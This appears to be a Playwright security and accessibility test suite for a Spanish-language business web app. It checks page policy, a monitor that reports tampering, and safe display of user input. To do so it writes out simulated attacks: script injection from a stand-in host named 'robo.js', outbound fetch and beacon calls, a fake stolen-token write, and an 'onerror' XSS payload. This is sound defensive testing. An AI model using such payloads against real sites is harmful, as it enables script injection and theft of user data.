import type { Page } from '@playwright/test';
import { enter, expect, expectAccessible, signIn, test, typeDate, walkTo } from './fixtures.ts';
import { alike, screens, screensOfWork } from './screens.ts';

const withoutSession = [
  '/login',
  '/LandingPage',
  '/desarrollo',
  '/registro-exitoso',
  '/Cliente_cotizaciones/no-existe',
];
const worked: ReadonlySet<string> = new Set(screensOfWork);
const lists = ['/comercial/cotizaciones', '/comercial/OrdenTrabajo', '/clientes/clientesList', '/activos'];

test('every screen where people work is among those that are opened', () => {
  expect(screensOfWork.filter((address) => !screens.includes(address))).toEqual([]);
});

/** What the browser complains of: policy violations, errors on the console, errors that nobody caught. */
async function listenForFaults(page: Page): Promise<string[]> {
  const faults: string[] = [];
  await page.exposeFunction('tellViolation', (text: string) => faults.push(text));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (violation) => {
      const { effectiveDirective, blockedURI, sourceFile, lineNumber } = violation;
      const tell = (globalThis as unknown as { tellViolation: (text: string) => void }).tellViolation;
      tell(`${location.pathname}: ${effectiveDirective} ${blockedURI} ${sourceFile}:${lineNumber}`);
    });
  });
  page.on('pageerror', (error) => faults.push(`${page.url()}: ${error.message}`));
  page.on('console', (message) => {
    // A refused call is an answer that the screen explains; the page of a link that does not exist asks for one.
    if (message.type() === 'error' && !/the server responded with a status of 4\d\d/.test(message.text()))
      faults.push(`${page.url()}: ${message.text()}`);
  });
  return faults;
}

async function settled(page: Page): Promise<void> {
  await expect(page.getByRole('heading').first()).toBeVisible();
  await expect(page.locator('[aria-busy=true]')).toHaveCount(0);
}

test('[ASVS 3.4.3] no page without a session breaks its own policy', async ({ page }) => {
  const faults = await listenForFaults(page);
  for (const address of withoutSession) {
    await page.goto(address);
    await settled(page);
  }
  expect(faults).toEqual([]);
});

for (const [part, quarter] of [0, 1, 2, 3].map((n) => [n + 1, screens.filter((_, at) => at % 4 === n)] as const))
  test(`[ASVS 3.4.3] no screen breaks the policy of the page, part ${part} of 4, and axe finds nothing where people work`, {
    tag: '@escritorio',
  }, async ({ page }) => {
    const faults = await listenForFaults(page);
    await signIn(page, 'dueno');
    for (const address of quarter) {
      if (alike.has(address)) await page.goto(address);
      else if (address !== '/') await walkTo(page, address);
      await settled(page);
      if (worked.has(address)) await test.step(address, () => expectAccessible(page));
    }
    expect(quarter.length).toBeGreaterThan(10);
    expect(faults).toEqual([]);
  });

/** Beside what leads elsewhere. The same person may have asked for more columns than fit, in another browser. */
const openFirst = (page: Page) =>
  page
    .getByRole('row')
    .nth(1)
    .getByRole('gridcell')
    .filter({ hasNot: page.locator('a, input') })
    .first()
    .click();

test('no record opened from its list breaks the policy of the page', { tag: '@escritorio' }, async ({ page }) => {
  const faults = await listenForFaults(page);
  await enter(page, 'dueno');
  for (const address of lists) {
    await walkTo(page, address);
    await openFirst(page);
    await expect(page.getByRole('dialog')).toBeVisible();
    await settled(page);
  }
  await walkTo(page, '/comercial/cotizaciones');
  await openFirst(page);
  await page.getByRole('link', { name: 'Abrir en su página' }).click();
  await expect(page.getByRole('heading', { level: 1, name: /^COT-/ })).toBeVisible();
  await page.getByRole('button', { name: 'PDF', exact: true }).click();
  await expect(page.getByRole('dialog')).toBeVisible();
  expect(faults).toEqual([]);
});

/** The monitor answers once its list of sites has come. */
async function openWatched(page: Page, address: string): Promise<void> {
  const ready = page.waitForResponse('**/api/vigilancia/permitidos');
  await page.goto(address);
  await ready;
  await expect(page.getByRole('heading').first()).toBeVisible();
  await expect.poll(() => page.evaluate(() => String(Storage.prototype.setItem).includes('native code'))).toBe(false);
}

/** What somebody who got to run in the page could try. */
const addScript = (page: Page, address: string) =>
  page.evaluate((src) => {
    const script = document.createElement('script');
    try {
      script.setAttribute('src', src);
    } catch (error) {
      return String(error);
    }
    document.body.append(script);
    return script.isConnected;
  }, address);

test.describe('with the policy of the page', { tag: '@escritorio' }, () => {
  test('[L-07] foreign code does not even get an address, and the administrator reads that it was stopped', async ({
    page,
  }) => {
    await enter(page, 'dueno');
    await openWatched(page, '/comercial/cotizaciones');
    expect(await addScript(page, 'https://codigo-ajeno.test/robo.js')).toMatch(/TypeError|TrustedScriptURL/);
    await page.evaluate(() => {
      const image = new Image();
      image.src = 'https://imagen-ajena.test/punto.gif';
      document.body.append(image);
      localStorage.setItem('jwt_robado', 'x');
      fetch('https://destino-ajeno.test/datos').catch(() => undefined);
      const frame = document.createElement('iframe');
      frame.src = 'https://marco-ajeno.test/';
      document.body.append(frame);
    });
    // Told in one batch, some seconds after the first.
    const told = await page.waitForRequest(
      (request) => request.url().endsWith('/api/vigilancia/eventos') && request.method() === 'POST',
    );
    const { eventos } = told.postDataJSON() as { eventos: { tipo: string; riesgo: string; origen: string }[] };
    expect(new Set(eventos.map(({ tipo }) => tipo))).toEqual(
      new Set(['script_injection', 'dom_modification', 'storage_access', 'network_request']),
    );
    expect((await told.response())?.status()).toBe(200);
    await page.goto('/administracion/seguridad?q=marco-ajeno.test');
    const rows = page.getByRole('row').filter({ hasText: 'marco-ajeno.test' });
    await expect(rows.filter({ hasText: 'El navegador lo detuvo' })).toContainText('Alto');
    await expect(rows.filter({ hasText: 'Se anotó' }).first()).toContainText('/comercial/cotizaciones');
    await expectAccessible(page);
  });

  test('[ASVS 3.4.7] what happens before the monitor has come is told by the browser itself', async ({ page }) => {
    await enter(page, 'dueno');
    await page.addInitScript(() =>
      document.addEventListener('DOMContentLoaded', () => {
        new Image().src = 'https://antes-del-monitor.test/x.gif';
      }),
    );
    const told = page.waitForResponse('**/api/vigilancia/informes-csp');
    await page.goto('/comercial/cotizaciones');
    expect((await told).status()).toBe(204);
    await page.goto('/administracion/seguridad?q=antes-del-monitor.test');
    await expect(page.getByRole('row').nth(1)).toContainText('El navegador lo detuvo');
  });
});

test.describe('if the policy were missing', { tag: '@escritorio' }, () => {
  test.use({ bypassCSP: true });

  test('[L-09] a script of another domain is taken out; those of the avatars and of this server stay', async ({
    page,
  }) => {
    await enter(page, 'dueno');
    await page.route(/(codigo-ajeno|ui-avatars)\./, (route) =>
      route.fulfill({ contentType: 'text/javascript', body: '' }),
    );
    await openWatched(page, '/comercial/cotizaciones');
    const stays = async (address: string) => {
      await addScript(page, address);
      return page.evaluate(
        (src) => new Promise((done) => setTimeout(() => done(document.querySelector(`script[src="${src}"]`) !== null))),
        address,
      );
    };
    expect(await stays('https://codigo-ajeno.test/a.js')).toBe(false);
    expect(await stays('//codigo-ajeno.test:8443/a.js')).toBe(false);
    expect(await stays('https://ui-avatars.com/a.js')).toBe(true);
    expect(await stays('/version.json')).toBe(true);
    await page.evaluate(() => {
      const box = document.createElement('div');
      box.innerHTML =
        '<p><script id="adentro">1</script></p><form id="ajeno" action="https://codigo-ajeno.test/"></form>';
      document.body.append(box);
    });
    await expect(page.locator('#adentro')).toHaveCount(0);
    await openBrowserReport(page);
    const events = page.getByRole('list', { name: 'Últimos eventos' });
    await expect(
      events.getByRole('listitem').filter({ hasText: 'Se quitó código de otro sitio' }).first(),
    ).toContainText('Crítico');
    await expect(events).toContainText('Un formulario enviaría sus datos a otro sitio');
  });

  test('[L-08] the page keeps a hundred events and shows and sends the last ten', async ({ page }) => {
    await page.clock.install();
    await signIn(page, 'dueno');
    const ready = page.waitForResponse('**/api/vigilancia/permitidos');
    await page.goto('/comercial/cotizaciones');
    await page.clock.runFor(5_000);
    await ready;
    await expect.poll(() => page.evaluate(() => String(Storage.prototype.setItem).includes('native code'))).toBe(false);
    const sent: unknown[][] = [];
    page.on('request', (request) => {
      if (request.url().endsWith('/api/vigilancia/eventos') && request.method() === 'POST')
        sent.push((request.postDataJSON() as { eventos: unknown[] }).eventos);
    });
    await page.evaluate(() => {
      for (let n = 1; n <= 105; n++) localStorage.setItem(`token_${n}`, 'x');
    });
    await page.clock.runFor(4_000);
    expect(sent).toHaveLength(0);
    await page.clock.runFor(1_500);
    await expect.poll(() => sent.length).toBe(1);
    expect(sent[0]).toHaveLength(10);
    expect(sent[0]?.[0]).toMatchObject({
      tipo: 'storage_access',
      riesgo: 'high',
      detalle: expect.stringContaining('token_105'),
    });
    // The next batch leaves the server in peace for half a minute.
    await page.evaluate(() => localStorage.setItem('token_mas', 'x'));
    await page.clock.runFor(25_000);
    expect(sent).toHaveLength(1);
    await page.clock.runFor(6_000);
    await expect.poll(() => sent.length).toBe(2);
    expect(sent[1]).toHaveLength(1);
    await openBrowserReport(page);
    const dialog = page.getByRole('dialog', { name: 'En este navegador' });
    await expect(dialog).toContainText('100 eventos guardados');
    await expect(dialog.getByRole('listitem')).toHaveCount(10);
  });
});

/** Through the application, so that the page stays the same one. */
async function openBrowserReport(page: Page): Promise<void> {
  await page.evaluate(() => history.pushState(null, '', '/administracion/seguridad'));
  await page.evaluate(() => dispatchEvent(new PopStateEvent('popstate', { state: null })));
  await page.getByRole('button', { name: 'Este navegador' }).click();
}

test('whoever does not administer permissions does not read what pages told of', { tag: '@escritorio' }, async ({
  page,
}) => {
  await signIn(page, 'asesor', '/administracion/seguridad');
  await expect(page.getByRole('heading', { name: 'Acceso denegado' })).toBeVisible();
});

test('[ASVS 3.2.2] what people write is shown as they wrote it, and never runs', { tag: '@escritorio' }, async ({
  page,
}) => {
  const faults = await listenForFaults(page);
  const name = `<img src=x onerror="document.title='roto'"> ${Date.now()}`;
  await signIn(page, 'dueno', '/clientes/clientesList');
  await page.getByRole('button', { name: 'Nuevo cliente' }).first().click();
  const dialog = page.getByRole('dialog');
  await dialog
    .getByRole('textbox', { name: /^Nombre/ })
    .first()
    .fill(name);
  await dialog.getByRole('button', { name: 'Guardar', exact: true }).click();
  await expect(dialog.getByRole('button', { name: 'Guardar', exact: true })).toHaveCount(0);
  // The panel of what was just made, which the list beside it may not hold.
  await expect(page.getByRole('dialog', { name })).toBeVisible();
  await page.goto(`/clientes/clientesList?q=${name.split(' ').at(-1)}`);
  await expect(page.getByRole('row').nth(1)).toContainText(name);
  await expect(page.locator('img[src="x"]')).toHaveCount(0);
  expect(faults).toEqual([]);
});

test('[ASVS 6.2.6, 6.2.7] a password is hidden while it is typed, may be looked at, pasted, and filled by a manager', {
  tag: '@escritorio',
}, async ({ page }) => {
  await page.goto('/login');
  const field = page.getByLabel(/^contraseña/i);
  await expect(field).toHaveAttribute('type', 'password');
  await expect(field).toHaveAttribute('autocomplete', 'current-password');
  await page.getByLabel(/correo/i).fill('pegar esto en la contraseña');
  await page.getByLabel(/correo/i).press('ControlOrMeta+a');
  await page.getByLabel(/correo/i).press('ControlOrMeta+c');
  await field.press('ControlOrMeta+v');
  await expect(field).toHaveValue('pegar esto en la contraseña');
  await page.getByRole('button', { name: /mostrar/i }).click();
  await expect(field).toHaveAttribute('type', 'text');
});

test('a date is typed without breaking the policy of the page, which still refuses what could make an element', {
  tag: '@escritorio',
}, async ({ page }) => {
  const faults = await listenForFaults(page);
  await signIn(page, 'dueno', '/comercial/resumenVentas');
  const day = page.getByRole('group', { name: 'Desde' });
  await day.getByRole('spinbutton').first().click();
  await typeDate(page, '2026-11-03');
  await expect(page).toHaveURL(/desde=2026-11-03/);
  expect(faults).toEqual([]);
  const refused = await page.evaluate(() => {
    try {
      document.createElement('div').innerHTML = '<img src=x>';
      return 'taken';
    } catch (error) {
      return error instanceof TypeError ? 'refused' : String(error);
    }
  });
  expect(refused).toBe('refused');
});
